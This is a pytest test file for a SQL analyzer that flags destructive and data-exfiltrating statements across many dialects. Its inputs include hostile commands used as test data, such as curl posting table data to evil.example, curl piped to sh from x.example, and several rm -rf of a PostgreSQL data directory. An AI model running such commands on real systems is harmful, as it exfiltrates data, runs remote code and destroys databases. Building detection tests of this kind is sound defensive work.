"""The SQL front end: fixtures annotated with ``-- ruleid:`` / ``-- ok:``, plus the
contracts around them (lines, origins, dialects, comments, touches, bad input)."""
from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
import sqlglot

from analyzer.catalogue import load_catalogue
from analyzer.frontends import Options
from analyzer.frontends import analyze as analyze_any
from analyzer.frontends.sql.statements import analyze, dialect_from_hint, validate_dialect
from analyzer.frontends.sql.facts import knowledge
from analyzer.frontends.sql.predicate import truth
from analyzer.model import Location
from annotations import check, expectations

FIXTURES = Path(__file__).parent / "fixtures" / "sql"
FIXTURE_FILES = sorted(FIXTURES.rglob("*.sql"))
DIALECT_LINE = re.compile(r"^--\s*dialect:\s*(\w+)", re.MULTILINE)
# `-- scratch: RULE` above a line: it must produce RULE as scratch (reported, with the reason why it
# loses nothing). `ruleid` and `ok` speak of what the gate acts on: operations that are not scratch.
SCRATCH_LINE = re.compile(r"^\s*--\s*scratch:\s*([\w.-]+)\s*$")


def run(text: str, dialect: str | None = None, hint: str | None = None, origin: Location | None = None):
    return analyze(text, origin or Location("q.sql"), Options(dialect=dialect, context_hint=hint))


def rules_at(analysis) -> set[tuple[str, int]]:
    return {(op.rule, op.location.line) for op in analysis.operations}


# --- fixtures ------------------------------------------------------------------

def scratch_expectations(text: str) -> set[tuple[str, int]]:
    """(rule, line) of every `-- scratch: RULE` annotation: the next line that is code."""
    found: set[tuple[str, int]] = set()
    pending: list[str] = []
    for number, line in enumerate(text.splitlines(), start=1):
        match = SCRATCH_LINE.match(line)
        if match:
            pending.append(match.group(1))
        elif pending and line.strip() and not line.strip().startswith("--"):
            found.update((rule, number) for rule in pending)
            pending = []
    return found


@pytest.mark.parametrize("path", FIXTURE_FILES, ids=lambda p: p.relative_to(FIXTURES).as_posix())
def test_fixture(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    declared = DIALECT_LINE.search(text)
    analysis = run(text, dialect=declared.group(1) if declared else None, origin=Location(str(path)))
    expected = expectations(text)
    assert expected, "a fixture without expectations tests nothing"
    acted_on = {(op.rule, op.location.line, None) for op in analysis.operations if not op.scratch}
    assert check(expected, acted_on) == []
    scratch = {(op.rule, op.location.line) for op in analysis.operations if op.scratch}
    assert sorted(scratch_expectations(text) - scratch) == [], "expected scratch operations missing"
    assert [op.message for op in analysis.operations if op.scratch and not op.detail("scratch")] == []
    assert [e.display() for e in analysis.errors] == []


def test_every_sql_rule_has_a_fixture_and_a_near_miss() -> None:
    texts = "\n".join(p.read_text(encoding="utf-8") for p in FIXTURE_FILES)
    annotated = {(e.kind, e.rule) for e in expectations(texts)}
    for rule_id in (r for r in load_catalogue().rules if r.startswith("sql.")):
        assert ("ruleid", rule_id) in annotated, f"{rule_id} has no positive fixture"
        assert ("ok", rule_id) in annotated, f"{rule_id} has no near-miss fixture"


def test_every_fixture_rule_exists_in_the_catalogue() -> None:
    rules = load_catalogue().rules
    for path in FIXTURE_FILES:
        text = path.read_text(encoding="utf-8")
        for exp_ in expectations(text):
            assert exp_.rule == "*" or exp_.rule in rules, f"{path.name}: unknown rule {exp_.rule}"
        for rule, _ in scratch_expectations(text):
            assert rule in rules, f"{path.name}: unknown rule {rule}"


# --- operations: fields ----------------------------------------------------------

def test_operation_fields_come_from_the_catalogue() -> None:
    (op,) = run("DROP TABLE Analytics.Events CASCADE;").operations
    assert op.rule == "sql.drop-table" and op.category == "destructive" and op.language == "sql"
    assert op.severity == "critical"            # CASCADE raises it
    assert op.targets == ("analytics.events",)
    assert op.message == "DROP TABLE analytics.events removes the table and its data"
    assert op.evidence == "DROP TABLE Analytics.Events CASCADE"
    assert op.verb == "drop" and op.detail("cascade") == "true"


def test_purge_raises_the_drop_severity() -> None:
    (op,) = run("DROP TABLE hr.employees PURGE", dialect="oracle").operations
    assert (op.rule, op.severity, op.detail("purge")) == ("sql.drop-table", "critical", "true")


def test_plain_drop_keeps_the_catalogue_severity() -> None:
    (op,) = run("DROP TABLE t").operations
    assert op.severity == load_catalogue().get("sql.drop-table").severity


def test_evidence_is_trimmed_and_bounded() -> None:
    columns = ", ".join(f"c{i}" for i in range(200))
    (op,) = run(f"UPDATE wide\n   SET ({columns}) = (1)").operations
    assert op.rule == "sql.update-all" and len(op.evidence) <= 200 and "\n" not in op.evidence


def test_drop_if_exists_of_tmp_table_is_reported_not_marked_scratch() -> None:
    (op,) = run("DROP TABLE IF EXISTS tmp_x").operations
    assert op.rule == "sql.drop-table" and op.targets == ("tmp_x",) and not op.scratch


def test_temporary_table_of_the_same_unit_is_scratch() -> None:
    ops = run("CREATE TEMP TABLE work AS SELECT 1;\nDROP TABLE work;\nDROP TABLE other;").operations
    assert [(op.targets, op.scratch) for op in ops] == [(("work",), True), (("other",), False)]


def test_temporary_table_of_another_unit_is_not_scratch() -> None:
    run("CREATE TEMP TABLE work AS SELECT 1")
    (op,) = run("DROP TABLE work").operations
    assert not op.scratch


def test_exports_carry_destination_and_host() -> None:
    (op,) = run("UNLOAD ('select * from billing.invoices') TO 's3://partner-bucket/x_' IAM_ROLE 'r'",
                dialect="redshift").operations
    assert op.category == "exfiltration" and op.targets == ("billing.invoices",)
    assert op.detail("host") == "partner-bucket" and op.detail("destination") == "s3://partner-bucket/x_"


def test_copy_to_program_reports_the_command() -> None:
    analysis = analyze_any("sql", "COPY users TO PROGRAM 'curl -d @- https://evil.example/u'",
                           Location("q.sql"), Options(dialect="postgres"))
    ops = [op for op in analysis.operations if op.language == "sql"]
    assert [(op.rule, op.targets, op.severity) for op in ops] == [("sql.copy-to-program", ("users",), "critical")]
    assert ops[0].detail("program") == "curl -d @- https://evil.example/u"


def test_copy_to_program_hands_the_command_to_the_shell_front_end() -> None:
    analysis = analyze_any("sql", "COPY users TO PROGRAM 'rm -rf /var/lib/data'", Location("q.sql"),
                           Options(dialect="postgres"))
    assert [op.rule for op in analysis.operations if op.language == "sql"] == ["sql.copy-to-program"]
    # The shell front end is written concurrently: while it cannot be imported,
    # the hand-off shows up as an error naming it instead of a shell operation.
    handed_on = any(op.language == "shell" for op in analysis.operations) or any(
        "shell" in e.message for e in analysis.errors)
    assert handed_on, "the program string was not handed to the shell front end"


def test_copy_from_program_hands_the_command_to_the_shell_front_end() -> None:
    analysis = analyze_any("sql", "COPY users FROM PROGRAM 'curl -s https://x.example/p.sh | sh'",
                           Location("q.sql"), Options(dialect="postgres"))
    assert [op for op in analysis.operations if op.language == "sql"] == []
    assert any(op.language == "shell" for op in analysis.operations) or any(
        "shell" in e.message for e in analysis.errors)


# --- lines, columns, origins --------------------------------------------------------

MULTI = """SELECT 1;

DELETE
  FROM a;   UPDATE b SET x = 1;
/* c */ DROP TABLE c;
TRUNCATE d"""


def test_every_statement_gets_its_own_line() -> None:
    assert rules_at(run(MULTI)) == {("sql.delete-all", 3), ("sql.update-all", 4), ("sql.drop-table", 5),
                                    ("sql.truncate", 6)}


def test_origin_offsets_lines_columns_and_cells() -> None:
    origin = Location("nb.ipynb", line=10, column=5, cell=3, cell_id="abc")
    analysis = run("DROP TABLE a; DROP TABLE b;\n  TRUNCATE c", origin=origin)
    located = sorted((op.targets[0], op.location.line, op.location.column, op.location.cell, op.location.cell_id)
                     for op in analysis.operations)
    assert located == [("a", 10, 5, 3, "abc"), ("b", 10, 19, 3, "abc"), ("c", 11, 3, 3, "abc")]
    assert {t.location.path for t in analysis.touches} == {"nb.ipynb"}


def test_templates_keep_line_numbers() -> None:
    text = "{% if x %}\n{{ config(\n  a=1) }}\nDROP TABLE {{ ref('t') }};\n{% endif %}\nDELETE FROM u"
    assert rules_at(run(text)) == {("sql.drop-table", 4), ("sql.delete-all", 6)}


def test_ten_thousand_statement_dump_finds_the_one_drop() -> None:
    lines = [f"INSERT INTO public.events (id, name) VALUES ({i}, 'row {i}; -- not a comment');" for i in range(10_000)]
    lines[7_345] = "DROP TABLE public.events;"
    analysis = run("\n".join(lines))
    assert [(op.rule, op.location.line) for op in analysis.operations] == [("sql.drop-table", 7_346)]
    assert analysis.errors == [] and analysis.comments == []


# --- dialects ---------------------------------------------------------------------

@pytest.mark.parametrize("hint, dialect", [
    ("snowflake.connector", "snowflake"), ("google.cloud.bigquery", "bigquery"), ("psycopg", "postgres"),
    ("psycopg2", "postgres"), ("pymysql", "mysql"), ("MySQLdb", "mysql"), ("sqlite3", "sqlite"),
    ("duckdb", "duckdb"), ("pyspark", "spark"), ("databricks", "databricks"), ("redshift_connector", "redshift"),
    ("postgresql://u:p@db.internal/app", "postgres"), ("postgresql+psycopg2://db/app", "postgres"),
    ("mysql+pymysql://db/app", "mysql"), ("mssql+pyodbc://db/app", "tsql"), ("snowflake.connector.cursor", "snowflake"),
    ("sqlite:///local.db", "sqlite"), ("requests", None), (None, None),
])
def test_dialect_from_context_hint(hint: str | None, dialect: str | None) -> None:
    assert dialect_from_hint(hint, knowledge()) == dialect


def test_hinted_dialect_is_used_for_parsing() -> None:
    text = "SELECT * FROM users INTO OUTFILE '/tmp/u'"
    assert rules_at(run(text, hint="pymysql")) == {("sql.select-into-outfile", 1)}
    # Snowflake's COPY INTO @stage only parses structurally in snowflake.
    (op,) = run("COPY INTO @out FROM analytics.users", hint="snowflake.connector").operations
    assert op.rule == "sql.copy-into-location" and op.targets == ("analytics.users",)


@pytest.mark.parametrize("name, expected", [("postgres", "postgres"), ("PostgreSQL", "postgres"),
                                            ("mssql", "tsql"), ("snowflake", "snowflake"), ("bq", "bigquery")])
def test_validate_dialect(name: str, expected: str) -> None:
    assert validate_dialect(name) == expected


def test_unknown_dialect_is_a_clear_value_error() -> None:
    with pytest.raises(ValueError, match=r"unknown SQL dialect 'postgress'; valid dialects: .*postgres"):
        validate_dialect("postgress")
    with pytest.raises(ValueError):
        run("SELECT 1", dialect="nosuchdb")


@pytest.mark.parametrize("dialect", ["postgres", "mysql", "sqlite", "snowflake", "bigquery", "redshift", "duckdb",
                                     "spark", "databricks", "tsql", "oracle", "trino"])
def test_core_families_in_every_dialect(dialect: str) -> None:
    text = "DROP TABLE a;\nTRUNCATE TABLE b;\nDELETE FROM c;\nUPDATE d SET x = 1 WHERE 1 = 1;\n" \
           "DELETE FROM e WHERE id = 5;\nSELECT * FROM f"
    analysis = run(text, dialect=dialect)
    assert rules_at(analysis) == {("sql.drop-table", 1), ("sql.truncate", 2), ("sql.delete-all", 3),
                                  ("sql.update-all", 4)}
    assert ("f", "read") in {(t.target, t.access) for t in analysis.touches}
    assert analysis.errors == []


# --- the WHERE evaluator ---------------------------------------------------------

@pytest.mark.parametrize("predicate, value", [
    ("1=1", True), ("TRUE", True), ("NOT FALSE", True), ("x = x", True), ("'a'='a'", True), ("1<2", True),
    ("x OR 1=1", True), ("x IS NULL OR x IS NOT NULL", True), ("NOT (1=0)", True), ("x = x AND TRUE", True),
    ("1 IN (1,2)", True), ("COALESCE(NULL, 1=1)", True), ("COALESCE(x = x, FALSE)", True),
    ("EXISTS (SELECT 1)", True), ("name LIKE '%'", True), ("1", True), ("2 + 2 = 4", True),
    ("id = 5", None), ("id = __execgate_param_0__", None), ("created_at < now()", None), ("x = y", None),
    ("1=0", False), ("NULL = NULL", None), ("? = ?", None), ("random() = random()", None), ("x IS NULL", None),
    ("1 IN (2,3)", False), ("x OR y", None), ("COALESCE(x, TRUE)", None), ("name LIKE 'a%'", None),
    ("x = 1 AND 1 = 1", None), ("NOT (1=1)", False), ("EXISTS (SELECT 1 FROM t)", None),
    ("id IN (SELECT id FROM t)", None), ("x <> x", False), ("__execgate_hole_0__ = __execgate_hole_0__", None),
])
def test_predicate_evaluator(predicate: str, value: bool | None) -> None:
    tree = sqlglot.parse_one(f"SELECT 1 WHERE {predicate}", read="postgres").args["where"].this
    assert truth(tree, knowledge().volatile_functions) is value


# --- touches ------------------------------------------------------------------------

def test_touches_for_reads_writes_and_deletes() -> None:
    text = ("WITH recent AS (SELECT * FROM raw.events) INSERT INTO analytics.events SELECT * FROM recent "
            "JOIN dim.users u ON u.id = recent.uid;\nDELETE FROM staging.events WHERE id = 3;\n"
            "UPDATE app.users SET a = 1 WHERE id IN (SELECT id FROM app.bans);\nDROP TABLE old.t")
    touches = {(t.kind, t.target, t.access, t.location.line) for t in run(text).touches}
    assert touches == {("table", "raw.events", "read", 1), ("table", "dim.users", "read", 1),
                       ("table", "analytics.events", "write", 1), ("table", "staging.events", "delete", 2),
                       ("table", "app.users", "write", 3), ("table", "app.bans", "read", 3),
                       ("table", "old.t", "delete", 4)}
    assert {t.language for t in run(text).touches} == {"sql"}


def test_dropping_a_schema_touches_a_database() -> None:
    (touch,) = run("DROP SCHEMA analytics CASCADE").touches
    assert (touch.kind, touch.target, touch.access) == ("database", "analytics", "delete")


# --- comments -----------------------------------------------------------------------

def test_comments_are_real_comments_only() -> None:
    text = ("SELECT '-- not a comment', 'a /* nor this */' FROM t; -- real one\n"
            "/* block\n   comment */ DELETE FROM staging;  -- execgate: allow sql.delete-all -- nightly reload\n")
    comments = [(c.location.line, c.location.column, c.text) for c in run(text).comments]
    assert comments == [(1, 55, "real one"), (2, 1, "block\n   comment"),
                        (3, 37, "execgate: allow sql.delete-all -- nightly reload")]


def test_comment_locations_follow_the_origin() -> None:
    (comment,) = run("SELECT 1 -- hi", origin=Location("f.py", line=7, column=20, cell=2)).comments
    assert (comment.location.line, comment.location.column, comment.location.cell, comment.text) == (7, 29, 2, "hi")


def test_jinja_comment_is_a_comment_and_hash_comment_in_mysql() -> None:
    texts = {c.text for c in run("{# note: DROP TABLE x #}\nSELECT 1 # trailing\n", dialect="mysql").comments}
    assert texts == {"note: DROP TABLE x", "trailing"}


# --- what cannot be parsed ---------------------------------------------------------

def test_stored_code_calls_are_evasion_not_errors() -> None:
    # CALL and EXEC of a procedure run code defined elsewhere: reported (warn, block in prod), not unreadable.
    analysis = run("SELECT 1;\nCALL refresh_all();\nEXEC dbo.purge;\nDROP TABLE after_it;")
    assert analysis.errors == []
    assert rules_at(analysis) == {("sql.opaque-call", 2), ("sql.opaque-call", 3), ("sql.drop-table", 4)}


@pytest.mark.parametrize("text, message", [
    ("hello world", "could not classify SQL statement starting 'hello world'"),
    ("DR/**/OP TABLE users", "could not classify SQL statement starting 'DR OP TABLE users'"),
    ("SHUTDOWN", "could not classify"),
])
def test_unclassifiable_statements_fail_closed(text: str, message: str) -> None:
    analysis = run(f"SELECT 1;\n{text};\nDROP TABLE after_it;")
    assert [(e.line, message in e.message) for e in analysis.errors] == [(2, True)]
    assert rules_at(analysis) == {("sql.drop-table", 3)}


def test_unterminated_string_is_one_error_and_the_rest_is_analysed() -> None:
    analysis = run("DROP TABLE a;\nSELECT 'oops;\nDROP TABLE b;\n")
    assert rules_at(analysis) == {("sql.drop-table", 1), ("sql.drop-table", 3)}
    assert [(e.line, "could not tokenize" in e.message) for e in analysis.errors] == [(2, True)]


def test_unbalanced_parentheses_still_classified() -> None:
    analysis = run("DELETE FROM t WHERE (id = 1;\nDROP TABLE (x;")
    assert ("sql.drop-table", 2) in rules_at(analysis)
    assert all("\n" not in e.message for e in analysis.errors)


@pytest.mark.parametrize("text, rule", [
    ("DROP TABLE __execgate_hole_0__", "sql.drop-table"),
    ("DELETE FROM {table}", "sql.delete-all"),
    ("DELETE FROM events_{} ", "sql.delete-all"),
    ("TRUNCATE {{ ref('daily') }}", "sql.truncate"),
])
def test_holes_and_templates_are_neutralised(text: str, rule: str) -> None:
    analysis = run(text)
    assert [op.rule for op in analysis.operations] == [rule] and analysis.errors == []


def test_hole_targets_are_shown_as_braces() -> None:
    (op,) = run("DROP TABLE tmp___execgate_hole_3__").operations
    assert op.targets == ("tmp_{}",) and op.evidence == "DROP TABLE tmp_{}"


def test_dynamic_sql_over_a_catalog_names_the_catalog_as_its_target() -> None:
    text = (FIXTURES / "catalog_loops_tsql.sql").read_text(encoding="utf-8")
    drops = [op for op in run(text, dialect="tsql").operations if op.rule == "sql.drop-table"]
    assert [(op.targets, op.detail("listed_by"), op.detail("resolved")) for op in drops] == [
        (("each name from sys.tables",), "sys.tables", "no")] * 2
    assert "DROP TABLE each name from sys.tables" in drops[0].message


def test_a_catalog_read_outside_a_loop_describes_nothing() -> None:
    (op,) = run("SELECT * FROM information_schema.tables;\nDROP TABLE {{ target }};").operations
    assert op.targets == ("{}",) and op.detail("listed_by") is None


@pytest.mark.parametrize("text, resolved, action", [
    ("DROP DATABASE $DB", "no", "block"),
    ("DROP TABLE {{ target }}", "no", "block"),
    ("TRUNCATE :tbl", "no", "block"),
    ("DROP TABLE @name", "no", "block"),
    ("DROP TABLE tmp_{{ run_id }}", "partial", "block"),      # the name looks scratch; the verb decides
    ("DROP TABLE {{ schema }}.tmp_events", "partial", "block"),
    ("DROP TABLE tmp_events", None, "allow"),                  # a known scratch name stays scratch
])
def test_a_variable_target_is_unresolved_and_the_verb_decides(text: str, resolved: str | None, action: str) -> None:
    from analyzer.engine import Checker
    from analyzer.model import Context
    from analyzer.policy.load import load_policy

    (op,) = run(text).operations
    assert op.detail("resolved") == resolved and not op.scratch
    report = Checker(load_policy(), Context()).check_text(text, "sql", "job.sql")
    assert [f.action for f in report.findings] == [action]


@pytest.mark.parametrize("text", [
    "DELETE FROM t WHERE id = %s AND tenant = %(tenant)s",
    "DELETE FROM t WHERE id = ? AND tenant = ?",
    "DELETE FROM t WHERE id = :id",
    "DELETE FROM t WHERE id = $1",
    "DELETE FROM t WHERE id = __execgate_hole_0__",
    "DELETE FROM t WHERE id = {id}",
    "DELETE FROM t WHERE %s = %s",
])
def test_placeholders_are_real_predicates(text: str) -> None:
    analysis = run(text)
    assert analysis.operations == [] and analysis.errors == []


def test_execute_immediate_constant_is_analysed_as_sql() -> None:
    analysis = analyze_any("sql", "BEGIN\n  EXECUTE IMMEDIATE 'DROP TABLE hr.jobs';\nEND;", Location("p.sql"),
                           Options(dialect="oracle"))
    assert [(op.rule, op.targets) for op in analysis.operations] == [("sql.drop-table", ("hr.jobs",))]


def test_empty_and_comment_only_input() -> None:
    assert run("").operations == [] and run("   \n").errors == []
    analysis = run("-- nothing here\n/* at all */")
    assert analysis.operations == [] and analysis.errors == [] and len(analysis.comments) == 2


def test_deep_nesting_fails_closed_for_that_statement_only() -> None:
    text = "SELECT " + "(" * 3000 + "1" + ")" * 3000 + ";\nDROP TABLE x;"
    analysis = run(text)
    assert [(e.line, "nested too deeply" in e.message) for e in analysis.errors] == [(1, True)]
    assert rules_at(analysis) == {("sql.drop-table", 2)}


def test_procedural_block_statements_keep_their_lines() -> None:
    text = "SELECT 1;\nDO $$\nBEGIN\n  UPDATE users SET x = 1;\n  DELETE FROM s WHERE id = 4;\nEND $$;"
    analysis = analyze_any("sql", text, Location("q.sql"), Options(dialect="postgres"))
    assert rules_at(analysis) == {("sql.update-all", 4)} and analysis.errors == []


@pytest.mark.parametrize("text, dialect, found, failed", [
    # a transaction: BEGIN is a statement of its own; what follows is read on its own
    ("BEGIN TRANSACTION;\nDELETE FROM t WHERE id = 1;\nCOMMIT;", None, set(), False),
    ("BEGIN WORK;\nDELETE FROM t;\nCOMMIT;", None, {("sql.delete-all", 2)}, False),
    # a block: its first statement follows BEGIN (T-SQL BEGIN TRY: follows both words)
    ("BEGIN\n  DROP TABLE x;\nEND;", None, {("sql.drop-table", 2)}, False),
    ("BEGIN TRY\n  DELETE FROM t;\nEND TRY\nBEGIN CATCH\n  SELECT 1;\nEND CATCH;", "tsql",
     {("sql.delete-all", 2)}, False),
    # SQL-standard BEGIN ATOMIC (PostgreSQL function bodies), MariaDB BEGIN NOT ATOMIC: read as blocks
    ("BEGIN ATOMIC\n  DELETE FROM t;\nEND;", "postgres", {("sql.delete-all", 2)}, False),
    ("BEGIN NOT ATOMIC\n  DELETE FROM t;\nEND;", "mysql", {("sql.delete-all", 2)}, False),
    ("BEGIN NOT ATOMIC\n  DELETE FROM t WHERE id = 3;\nEND;", "mysql", set(), False),
])
def test_what_begin_opens(text: str, dialect: str | None, found: set, failed: bool) -> None:
    begin = knowledge().begin
    assert begin.starts_transaction("transaction") and begin.opening(["TRY"]) == 1
    assert begin.opening(["NOT", "ATOMIC", "DELETE"]) == 2 and begin.opening(["DELETE"]) == 0
    analysis = run(text, dialect=dialect)
    assert rules_at(analysis) == found and bool(analysis.errors) == failed


def test_statement_after_ctes_is_classified_by_its_own_verb() -> None:
    # sqlglot cannot parse the trailing junk, the token classifier still sees a DELETE with no WHERE.
    analysis = run("WITH a AS (SELECT 1 FROM src) DELETE FROM t QUALIFY whatever junk")
    assert rules_at(analysis) == {("sql.delete-all", 1)}


def test_create_or_replace_of_a_temporary_table_is_scratch() -> None:
    (op,) = run("CREATE OR REPLACE TEMPORARY TABLE work AS SELECT 1", dialect="snowflake").operations
    assert op.rule == "sql.create-or-replace-table" and op.scratch


def test_plain_insert_fast_path_matches_the_full_parse() -> None:
    text = "INSERT INTO a.t (x) VALUES (1), (2);\nINSERT INTO b VALUES ('DROP TABLE c');"
    fast = analyze(text, Location("q.sql"), Options(prefilter=True))
    full = analyze(text, Location("q.sql"), Options(prefilter=False))
    assert sorted(fast.touches) == sorted(full.touches) and fast.operations == full.operations == []
    assert {(t.target, t.access) for t in fast.touches} == {("a.t", "write"), ("b", "write")}


def test_huge_statement_is_classified_from_tokens() -> None:
    values = ",".join(f"({i}, '{'x' * 48}')" for i in range(4_500))
    assert len(values) > knowledge().max_parse_chars
    analysis = run(f"INSERT INTO big.t VALUES {values};\nDELETE FROM big.t")
    assert rules_at(analysis) == {("sql.delete-all", 2)}
    assert ("big.t", "write") in {(t.target, t.access) for t in analysis.touches}


# --- what loses nothing ----------------------------------------------------------------

def test_scratch_operations_say_why() -> None:
    ops = run("CREATE TEMP TABLE work AS SELECT 1;\nDROP TABLE work;\nCREATE TABLE t2 (a int);\n"
              "DELETE FROM t2;\nDROP VIEW v;\nCREATE VIEW v AS SELECT 1;").operations
    assert [(op.rule, op.scratch, op.detail("scratch")) for op in ops] == [
        ("sql.drop-table", True, "a temporary table created earlier"),
        ("sql.delete-all", True, "table t2 was created at line 3 of this SQL"),
        ("sql.drop-view", True, "view v holds no rows and is created again at line 6")]


def test_a_table_made_in_another_unit_is_not_scratch() -> None:
    shared: dict = {}
    analyze("CREATE TABLE work (a int)", Location("a.py"), Options(shared=shared))
    (op,) = analyze("DROP TABLE work", Location("a.py"), Options(shared=shared)).operations
    assert not op.scratch


def test_a_down_file_reads_its_up_file_and_only_it(tmp_path: Path) -> None:
    up = tmp_path / "0007_tags.up.sql"
    up.write_text("CREATE TABLE tags (id int);\nCREATE TABLE IF NOT EXISTS labels (id int);\n", encoding="utf-8")
    down = tmp_path / "0007_tags.down.sql"
    text = "DROP TABLE tags;\nDROP TABLE labels;\nDROP TABLE notes;\n"
    ops = analyze(text, Location(str(down)), Options()).operations
    assert [(op.targets, op.scratch) for op in ops] == [(("tags",), True), (("labels",), False), (("notes",), False)]
    assert "0007_tags.up.sql line 1" in (ops[0].detail("scratch") or "")
    # The same text under a name that is no down file, or on stdin, knows no up-migration.
    for path in (str(tmp_path / "0007_tags.sql"), "<stdin>"):
        assert not any(op.scratch for op in analyze(text, Location(path), Options()).operations)


def test_an_unreadable_up_file_makes_nothing(tmp_path: Path) -> None:
    (tmp_path / "up.sql").write_bytes(b"CREATE TABLE posts (id int);\x00\x00")
    (op,) = analyze("DROP TABLE posts;", Location(str(tmp_path / "down.sql")), Options()).operations
    assert not op.scratch


# --- client commands ---------------------------------------------------------------------

@pytest.mark.parametrize("text, line", [
    # inside a string: psql does not see a meta-command there, and the DROP after the string runs
    ("SELECT 'a\n\\echo x'; DROP TABLE users;", 2),
    # inside a block comment: no SQL*Plus command there
    ("/*\nPROMPT done */ DROP TABLE users;", 2),
    # a line command in the middle of a statement is part of it; the DROP still counts
    ("SELECT 1\nCOPY t FROM stdin;\nDROP TABLE users;\n\\.\n", 3),
    # a client that does not know the command runs what follows its ";"
    ("PROMPT done; DROP TABLE users;", 1),
    ("SET DEFINE OFF\nDROP TABLE users;", 2),
    ("source cleanup.sql\nuse shop\nDROP TABLE users;", 3),
    # T-SQL: END and GO swallow the rest of the line as a string; the statement after them is read
    ("BEGIN\n  SELECT 1;\nEND\nGO\nDROP TABLE users\nGO\n", 5),
])
def test_client_lines_hide_nothing(text: str, line: int) -> None:
    assert ("sql.drop-table", line) in rules_at(run(text))


def test_copy_data_is_not_sql() -> None:
    rows = "\n".join(f"{i}\t'it''s; DROP TABLE users -- /* {i}" for i in range(5_000))
    analysis = run(f"COPY public.notes (id, body) FROM stdin;\n{rows}\n\\.\nDELETE FROM public.notes;\n")
    assert rules_at(analysis) == {("sql.delete-all", 5_003)} and analysis.errors == []


@pytest.mark.parametrize("text", [
    "\\! rm -rf /var/lib/postgresql/data",
    "\\set stamp `rm -rf /var/lib/postgresql/data`",
    "\\copy users TO PROGRAM 'rm -rf /var/lib/postgresql/data'",
    "\\o | rm -rf /var/lib/postgresql/data",
    "HOST rm -rf /var/lib/postgresql/data",
])
def test_client_shell_commands_go_to_the_shell_front_end(text: str) -> None:
    analysis = analyze_any("sql", f"SELECT 1;\n{text}\nSELECT 2;", Location("q.sql"), Options())
    handed_on = any(op.language == "shell" for op in analysis.operations) or any(
        "shell" in e.message for e in analysis.errors)
    assert handed_on and not [e for e in analysis.errors if "could not classify" in e.message]


def test_client_copy_and_includes_are_touches() -> None:
    text = ("\\copy app.fx_rates FROM 'fx.csv' CSV HEADER\n\\copy (SELECT id FROM app.orders) TO 'o.csv'\n"
            "\\i sql/views.sql\n@@install.sql\n:r .\\post.sql\nSPOOL install.log\nSPOOL OFF\n")
    touches = {(t.kind, t.target, t.access, t.location.line) for t in run(text).touches}
    assert touches == {("table", "app.fx_rates", "write", 1), ("file", "fx.csv", "read", 1),
                       ("table", "app.orders", "read", 2), ("file", "o.csv", "write", 2),
                       ("file", "sql/views.sql", "execute", 3), ("file", "install.sql", "execute", 4),
                       ("file", ".\\post.sql", "execute", 5), ("file", "install.log", "write", 6)}


def test_unknown_statements_still_fail_closed_inside_blocks() -> None:
    # Declarations are read as such only in a DECLARE section; elsewhere free text stays unreadable.
    assert run("DECLARE\n  r record;\nBEGIN\n  SELECT 1;\nEND;").errors == []
    analysis = run("SELECT 1;\nr record;\nDROP TABLE t;")
    assert [e.line for e in analysis.errors] == [2] and rules_at(analysis) == {("sql.drop-table", 3)}
    analysis = run("DECLARE\n  r record;\nBEGIN\n  hello world;\nEND;")
    assert [e.line for e in analysis.errors] == [4]


@pytest.mark.parametrize("down, up", [
    ("0042_tags.down.sql", "0042_tags.up.sql"),           # golang-migrate, sqlx
    ("0042_tags_down.sql", "0042_tags_up.sql"),
    ("down.sql", "up.sql"),                               # diesel
    ("U42__tags.sql", "V42__add_tags.sql"),               # Flyway undo: the same version
    ("U2024_03_11__tags.sql", "V2024_03_11__tags.sql"),
    ("0042.rollback.sql", "0042.sql"),                    # yoyo
])
def test_down_files_find_their_up_file(tmp_path: Path, down: str, up: str) -> None:
    (tmp_path / up).write_text("CREATE TABLE tags (id int);\n", encoding="utf-8")
    (tmp_path / "V43__other.sql").write_text("CREATE TABLE other (id int);\n", encoding="utf-8")
    (op,) = analyze("DROP TABLE tags;", Location(str(tmp_path / down)), Options()).operations
    assert op.scratch and up in (op.detail("scratch") or "")
    # Its twin: a table the up file did not create.
    (op,) = analyze("DROP TABLE other;", Location(str(tmp_path / down)), Options()).operations
    assert not op.scratch


def test_two_up_files_for_one_undo_make_nothing(tmp_path: Path) -> None:
    for name in ("V42__a.sql", "V42__b.sql"):
        (tmp_path / name).write_text("CREATE TABLE tags (id int);\n", encoding="utf-8")
    (op,) = analyze("DROP TABLE tags;", Location(str(tmp_path / "U42__a.sql")), Options()).operations
    assert not op.scratch


@pytest.mark.parametrize("name, dialect, expected", [
    ("export_calls_tsql.sql", "tsql", [("msdb.dbo.sp_send_dbmail", "ops@example.net", "example.net"),
                                       ("sp_send_dbmail", None, None)]),
    ("export_calls_oracle.sql", "oracle", [("utl_http.request", "https://collector.example.net/?d=...",
                                            "collector.example.net"),
                                           ("utl_http.request", "https://collector.example.net/ping",
                                            "collector.example.net"),
                                           ("utl_file.fopen", "DATA_DIR/users.csv", None),
                                           ("utl_tcp.open_connection", "collector.example.net",
                                            "collector.example.net")]),
    ("export_calls_lakes.sql", None, [("INSERT INTO FUNCTION s3", "https://dumps.s3.amazonaws.com/users.csv",
                                       "dumps.s3.amazonaws.com"),
                                      ("INSERT INTO FUNCTION url", "https://collector.example.net/in",
                                       "collector.example.net")]),
])
def test_export_calls_report_routine_destination_and_host(name: str, dialect: str | None, expected) -> None:
    analysis = run((FIXTURES / name).read_text(encoding="utf-8"), dialect=dialect)
    found = [(op.detail("routine"), op.detail("destination"), op.detail("host"))
             for op in analysis.operations if op.rule == "sql.export-call"]
    assert found == expected


def test_the_query_a_mail_sends_is_read() -> None:
    analysis = run("EXEC msdb.dbo.sp_send_dbmail @recipients = 'a@example.net', @query = 'SELECT * FROM dbo.Users'",
                   dialect="tsql")
    assert ("table", "dbo.users", "read") in {(t.kind, t.target, t.access) for t in analysis.touches}


def test_a_down_file_names_its_up_file_as_read_so_a_cached_result_follows_it(tmp_path: Path) -> None:
    up = tmp_path / "0009_tags.up.sql"
    up.write_text("CREATE TABLE tags (id int);\n")
    down = tmp_path / "0009_tags.down.sql"
    down.write_text("DROP TABLE tags;\n")
    analysis = analyze_any("sql", down.read_text(), Location(str(down)), Options())
    assert analysis.reads == [str(up)]
    alone = tmp_path / "0010_other.sql"
    alone.write_text("DROP TABLE tags;\n")
    assert analyze_any("sql", alone.read_text(), Location(str(alone)), Options()).reads == []


def test_a_delete_whose_target_sqlglot_leaves_as_a_flag_is_still_read() -> None:
    # T-SQL `DELETE TOP (@n) alias` with no FROM: sqlglot keeps no table node; found by fuzzing.
